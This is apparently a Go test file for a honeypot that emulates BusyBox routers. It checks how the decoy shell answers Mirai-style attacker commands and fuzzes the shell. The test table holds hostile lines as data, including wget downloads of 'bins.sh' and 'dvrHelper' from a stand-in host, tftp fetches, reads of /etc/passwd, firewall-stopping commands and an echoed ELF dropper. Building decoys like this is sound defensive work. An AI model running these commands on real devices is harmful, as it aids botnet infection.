package programs

import (
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/lapwing-defence/lapwing/internal/sharedtest"
)

// routerAnswers is what a line of the table of attack commands must give on a
// BusyBox router, by the beginning of the line.
var routerAnswers = []struct {
	line, want string
	status     int
}{
	{"/bin/./uname -s", `^Linux \S+ 5\.\d+\.\d+ #0 .* (mips|armv7l)\n$`, 0},
	{"uname -a", `^Linux \S+ 5\.\d+\.\d+ #0 .* (mips|armv7l) GNU/Linux\n$`, 0},
	{"uname -m", `^(mips|armv7l)\n$`, 0},
	{"uname -s -m", `^Linux (mips|armv7l)\n$`, 0},
	{"( [ -f /proc/version ]", `^Linux\n$`, 0},
	{"whoami", `^root\n$`, 0},
	{"grep -c", `^[14]\n$`, 0},
	{"which ls", `^/bin/ls\n$`, 0},
	{"ls -lh $(which ls)", `^lrwxrwxrwx    1 root     root             7 \w+ \d+  20\d\d /bin/ls -> busybox\n$`, 0},
	{"cat /proc/meminfo", `^MemTotal: +\d+ kB\n`, 0},
	{"cat /etc/passwd", `^root:x:0:0:root:/root:/bin/sh\n`, 0},
	{"cat /proc/1/mounts", `(?s)overlayfs:/overlay / overlay .*sh: curl2: not found\n  PID USER       VSZ STAT COMMAND\n    1 root      1520 S    init`, 0},
	{"ps | grep", `^$`, 1},
	{"/ip cloud", `^sh: /ip: not found\n$`, 127},
	{"INFO PRODINFO", `^sh: INFO: not found\n$`, 127},
	{"netstat -t", `(?s)0\.0\.0\.0:23 .*LISTEN .*telnetd`, 0},
	{"mount | head", `^/dev/root on /rom type squashfs \(ro,relatime\)\n`, 0},
	{"dmesg |", `(?s)^\[    0\.000000\] Linux version 5\.`, 0},
	{`echo -e "\x6F\x6B"`, `^ok\n$`, 0},
	{`echo -e "\x61`, `^auth_ok\n\n$`, 0},
	{"echo xsec", `^xsec\n$`, 0},
	{"enable", `^sh: enable: not found\n$`, 127},
	{"system", `^sh: system: not found\n$`, 127},
	{"/bin/busybox ECCHI", `^ECCHI: applet not found\n$`, 127},
	{"/bin/busybox ps; /bin/busybox ECCHI", `(?s)^  PID USER       VSZ STAT COMMAND\n.*telnetd.*\nECCHI: applet not found\n$`, 127},
	{"cat /proc/mounts; /bin/busybox SMJKD", `(?s)^/dev/root /rom squashfs .*jffs2.*\nSMJKD: applet not found\n$`, 127},
	{"cd /dev/shm;", `^cat: can't open '\.s': No such file or directory\nSMJKD: applet not found\n$`, 127},
	{">/tmp/.ptmx", `^$`, 0},
	{">/dev/netslink", `^sh: can't create /dev/netslink/\.ptmx: nonexistent directory\n$`, 1},
	{">/etc/.ptmx", `^$`, 0},
	{"/bin/busybox cp", `^AK1K2: applet not found\n$`, 127},
	{"/bin/busybox cat /bin/busybox", `(?s)^\x7fELF\x01[\x01\x02]\x01`, 0},
	{"cat /bin/echo", `(?s)^\x7fELF\x01[\x01\x02]\x01`, 0},
	{`/bin/busybox echo -e '\x6b\x61\x6d\x69/sys'`, `^sh: can't create /sys/\.nippon: Permission denied\ncat: can't open '/sys/\.nippon': No such file or directory\nrm: can't remove '/sys/\.nippon': No such file or directory\n$`, 1},
	{`/bin/busybox echo -e '\x6b\x61\x6d\x69/proc'`, `^sh: can't create /proc/\.nippon: nonexistent directory\ncat: can't open '/proc/\.nippon': No such file or directory\nrm: can't remove '/proc/\.nippon': No such file or directory\n$`, 1},
	{"rm /.t;", `^(rm: can't remove '/\.\w+': No such file or directory\n){3}$`, 1},
	{"cd /; /bin/busybox cp", `^ECCHI: applet not found\n$`, 127},
	{"ls /home; ps aux", `(?s)^ls: /home: No such file or directory\n.*ZONESEC: applet not found\n$`, 127},
	{"/gweerwe323f", `^sh: /gweerwe323f: not found\n$`, 127},
	{"wget http://198.51.100.7/bins.sh ||", `^Connecting to 198\.51\.100\.7:80 \(198\.51\.100\.7:80\)\nsaving to 'bins\.sh'\nbins\.sh +100% .*\n'bins\.sh' saved\n$`, 0},
	{"cd /data/local", `(?s)^sh: cd: line 0: can't cd to /data/local/tmp/: No such file or directory\n.*sh: curl: not found\n`, 2},
	{"busybox tftp -g", `^$`, 0},
	{"wget http://198.51.100.7/bin/dvrHelper", `(?s)saved\n$`, 0},
	{"apt-get install", `^sh: apt-get: not found\n$`, 127},
	{"/etc/init.d/iptables", `^sh: /etc/init\.d/iptables: not found\nsh: service: not found\nsh: SuSEfirewall2: not found\nsh: reSuSEfirewall2: not found\n$`, 127},
	{"cd /home/richard", `^sh: cd: line 0: can't cd to /home/richard/: No such file or directory\n$`, 2},
	{"exit", `^$`, 0},
	{"/bin/busybox TEST", `^TEST: applet not found\n$`, 127},
	{"pm path", `^sh: pm: not found\n$`, 127},
	{"ping; cd /tmp; tftp -r rr", `(?s)^BusyBox v1\.3\d\.\d \(.*\) multi-call binary\.\n\nUsage: ping \[OPTIONS\] HOST\n$`, 0},
	{"sudo pkill", `^sh: sudo: not found\nsh: sudo: not found\n$`, 127},
	{"chmod +x clean.sh", `(?s)GNU/Linux\nauth_ok\n\n$`, 0},
}

func TestAttackCommandsOnARouter(t *testing.T) {
	data, err := os.ReadFile(sharedtest.Dir(t) + "/decoys/attack_commands.tsv")
	if err != nil {
		t.Skip("the table of attack commands is not here: ", err)
	}
	for _, a := range routerAnswers {
		t.Run(a.line, func(t *testing.T) {
			cmd := ""
			for l := range strings.Lines(string(data)) {
				c, _, ok := strings.Cut(l, "\t")
				exact := !strings.ContainsAny(a.line, " /.:>")
				if ok && (c == a.line || cmd == "" && !exact && strings.HasPrefix(c, a.line)) {
					cmd = c
				}
			}
			if cmd == "" {
				t.Fatal("no such line in the table")
			}
			for _, machine := range []string{"mips", "armv7l"} {
				v := router(t, machine)
				out, rc := run(t, v, cmd, "stdin data\n")
				v.Close()
				if !regexp.MustCompile(a.want).MatchString(out) || rc != a.status {
					t.Errorf("%q\ngives [%d] %.400q\nwant  [%d] %s", cmd, rc, out, a.status, a.want)
				}
			}
		})
	}
}

// TestDropper goes the way of a Mirai loader: where can I write, what machine
// is this, can I fetch, and if not, can I echo a program into a file.
func TestDropper(t *testing.T) {
	v := router(t, "mips")
	defer v.Close()
	for _, s := range []struct{ line, want string }{
		{"/bin/busybox dd bs=52 count=1 if=/bin/ls 2>/dev/null | /bin/busybox hexdump -C | /bin/busybox head -n 2", `^00000000  7f 45 4c 46 01 02 01 00  00 00 00 00 00 00 00 00  \|\.ELF.*\n00000010  00 02 00 08 00 00 00 01 `},
		{"cat /bin/busybox | head -c 52 | wc -c", `^52\n$`},
		{"cat /proc/cpuinfo", `^system type\t\t: Qualcomm Atheros QCA9\d{3}`},
		{"for d in /tmp /var/run /mnt /root /; do >$d/.b && cd $d && echo $d; done; pwd", `^/tmp\n/var/run\n/mnt\n/root\n/\n/\n$`},
		{`cd /tmp; /bin/busybox echo -ne '\x7f\x45\x4c\x46\x01' > up; /bin/busybox echo -ne '\x02\x01' >> up; /bin/busybox chmod 777 up; /bin/busybox hexdump -C up; ls -l up`, `^00000000  7f 45 4c 46 01 02 01 .*\n00000007\n-rwxrwxrwx    1 root     root             7 `},
		{"cat /proc/mtd", `^dev:    size   erasesize  name\nmtd0: 00040000 00010000 "u-boot"\n`},
		{"nvram get lan_ipaddr", `^192\.168\.\d+\.1\n$`},
		{"iptables -L | head -n 1", `^Chain INPUT \(policy ACCEPT\)\n$`},
		{"busybox | head -n 1", `^BusyBox v1\.3\d\.\d \(20\d\d-\d\d-\d\d \d\d:\d\d:\d\d UTC\) multi-call binary\.\n$`},
	} {
		out, _ := run(t, v, s.line, "")
		if !regexp.MustCompile(s.want).MatchString(out) {
			t.Errorf("%q\ngives %.400q\nwant  %s", s.line, out, s.want)
		}
	}
}

// TestEveryLinkIsAnApplet: what lies in /bin as a link to BusyBox is a
// function of it, and every function has its link.
func TestEveryLinkIsAnApplet(t *testing.T) {
	v := router(t, "mips")
	defer v.Close()
	out, _ := run(t, v, "busybox --list", "")
	links := map[string]bool{"busybox": true}
	for _, p := range v.M.Persona.Programs {
		if p.Impl == "busybox" {
			links[p.Path[strings.LastIndexByte(p.Path, '/')+1:]] = true
		}
	}
	last := ""
	for name := range strings.FieldsSeq(out) {
		if name <= last {
			t.Errorf("%q stands after %q", name, last)
		}
		last = name
		if !links[name] {
			t.Errorf("the applet %q has no link", name)
		}
		delete(links, name)
	}
	for name := range links {
		t.Errorf("the link %q is no applet", name)
	}
}

// FuzzRouter: whatever is typed at a router, it answers within its limits and
// with a status of a shell.
func FuzzRouter(f *testing.F) {
	for _, file := range []string{"ash.txt", "applets.txt"} {
		data, err := os.ReadFile("testdata/" + file)
		if err != nil || len(data) == 0 {
			f.Fatal("no seed corpus: ", err)
		}
		for line := range strings.Lines(string(data)) {
			f.Add(strings.TrimSuffix(line, "\n"))
		}
	}
	f.Fuzz(func(t *testing.T, line string) {
		if len(line) > 500 || strings.Contains(line, "sleep") {
			return
		}
		v := router(t, "armv7l")
		defer v.Close()
		if out, rc := run(t, v, line, "in\n"); rc < 0 || rc > 255 || len(out) > 64<<20 {
			t.Fatalf("status %d, %d bytes", rc, len(out))
		}
	})
}
